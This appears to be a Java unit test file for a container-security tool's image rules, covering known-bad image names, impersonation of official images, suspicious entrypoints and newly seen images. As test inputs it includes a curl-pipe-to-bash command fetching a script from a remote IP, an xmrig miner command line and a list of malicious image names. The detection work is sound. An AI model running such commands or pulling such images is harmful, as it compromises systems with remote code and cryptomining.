package io.firedamp.detectors.image;

import static io.firedamp.detectors.image.Images.DIGEST;
import static io.firedamp.detectors.image.Images.MORNING;
import static io.firedamp.detectors.image.Images.sighting;
import static org.assertj.core.api.Assertions.assertThat;

import io.firedamp.detectors.Finding;
import io.firedamp.detectors.PoolList;
import io.firedamp.detectors.indicators.ImageNames;
import io.firedamp.detectors.indicators.OfficialNames;
import io.firedamp.detectors.indicators.TraceFinder;
import io.firedamp.detectors.indicators.Traces;
import java.time.Duration;
import java.time.Instant;
import java.util.List;
import java.util.Optional;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class ImageRulesTest {
  private static final Duration DAY = Duration.ofDays(1);
  private static final ImageNames NONE = ImageNames.of(List.of());

  private final KnownBadRule knownBad = new KnownBadRule(ImageNames.knownBad(), NONE, DAY);
  private final ImpersonationRule impersonation =
      new ImpersonationRule(OfficialNames.bundled(), NONE, DAY);
  private final ImageConfigRule config = new ImageConfigRule(NONE, DAY);
  private final NewImageRule newImage = new NewImageRule(DAY, Duration.ofDays(7), NONE, DAY);

  @ParameterizedTest
  @ValueSource(
      strings = {
        "docker.io/docker123321/tomcat:latest",
        "mirror.example/hub/docker123321/cron:1",
        "docker.io/alpineos/dockerapi:latest"
      })
  void knowsMaliciousImages(String image) {
    assertThat(knownBad.check(sighting(image, MORNING)))
        .hasValueSatisfying(
            finding -> {
              assertThat(finding.decibans()).isEqualTo(50);
              assertThat(finding.slot()).isEqualTo(image);
            });
  }

  @ParameterizedTest
  @ValueSource(
      strings = {"docker.io/library/tomcat:9", "docker.io/alpineos/tools:1", "not an image"})
  void leavesUnlistedImagesAlone(String image) {
    assertThat(knownBad.check(sighting(image, MORNING))).isEmpty();
  }

  @Test
  void saysNothingOfAnExceptedImage() {
    var excepted =
        new KnownBadRule(ImageNames.knownBad(), ImageNames.of(List.of("docker123321/cron")), DAY);

    assertThat(excepted.check(sighting("docker.io/docker123321/cron:1", MORNING))).isEmpty();
    assertThat(excepted.check(sighting("docker.io/docker123321/tomcat:1", MORNING))).isPresent();
  }

  @Test
  void tellsAnImpostorFromTheOfficialImageAndFromAVendor() {
    assertThat(impersonation.check(sighting("docker.io/evil/tomcat11:latest", MORNING)))
        .hasValueSatisfying(
            finding -> {
              assertThat(finding.decibans()).isEqualTo(10);
              assertThat(finding.title()).contains("poses as official tomcat");
            });
    assertThat(impersonation.check(sighting("docker.io/library/tomcat:9", MORNING))).isEmpty();
    assertThat(impersonation.check(sighting("docker.io/bitnami/mysql:8", MORNING))).isEmpty();
  }

  @Test
  void weighsAConfigurationByWhatItHolds() {
    assertThat(judged(Images.MINER)).map(Finding::decibans).contains(54.0);
    assertThat(judged(List.of("xmrig", "--donate-level", "1")))
        .map(Finding::decibans)
        .contains(44.0);
    assertThat(judged(List.of("sh", "-c", "curl -s http://203.0.113.9/a.sh | bash")))
        .map(Finding::decibans)
        .contains(16.0);
    assertThat(judged(List.of("catalina.sh", "run"))).isEmpty();
  }

  @Test
  void namesTheWalletAndThePoolAsIndicators() {
    assertThat(judged(Images.MINER).orElseThrow().indicators())
        .extracting(indicator -> indicator.getType())
        .containsExactlyInAnyOrder("pool", "wallet");
  }

  @Test
  void callsAnImageNewForADayAfterItWasFirstSeen() {
    Sighting start = sighting("docker.io/acme/app:1", MORNING);
    Instant longAgo = MORNING.minus(Duration.ofDays(30));

    assertThat(newImage.check(start, List.of(MORNING.minus(DAY)), longAgo))
        .map(Finding::decibans)
        .contains(7.0);
    assertThat(newImage.check(start, List.of(MORNING.minus(DAY).minusMillis(1)), longAgo))
        .isEmpty();
  }

  @Test
  void callsAnImageKnownWhenOneOfItsDigestsIs() {
    Sighting start = sighting("docker.io/acme/app:1", MORNING);
    Instant longAgo = MORNING.minus(Duration.ofDays(30));

    assertThat(newImage.check(start, List.of(MORNING, longAgo), longAgo)).isEmpty();
  }

  @Test
  void saysLittleWhileTheClusterItselfIsNew() {
    Sighting start = sighting("docker.io/acme/app:1", MORNING);

    assertThat(newImage.check(start, List.of(MORNING), MORNING.minus(Duration.ofDays(6))))
        .map(Finding::decibans)
        .contains(3.0);
  }

  private Optional<Finding> judged(List<String> entrypoint) {
    Traces traces = new TraceFinder(PoolList.bundled()).find(entrypoint, List.of(), List.of());
    return config.check(DIGEST, traces, sighting("docker.io/acme/app:1", MORNING));
  }
}
